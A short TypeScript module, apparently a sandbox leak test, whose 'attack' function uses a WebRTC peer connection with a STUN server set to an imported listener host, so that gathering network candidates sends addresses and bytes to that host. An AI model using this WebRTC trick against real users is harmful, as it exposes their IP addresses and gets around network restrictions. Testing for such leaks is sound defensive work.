import { listener } from "./listener";

/** A STUN server of one's own learns addresses and bytes. */
export async function attack() {
  const Peer = (self as any).RTCPeerConnection;
  if (Peer !== undefined) {
    const peer = new Peer({ iceServers: [{ urls: `stun:${new URL(listener).host}` }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 1_000));
  }
  console.log(`arrived: ${Peer === undefined ? "" : "peer"}`);
}
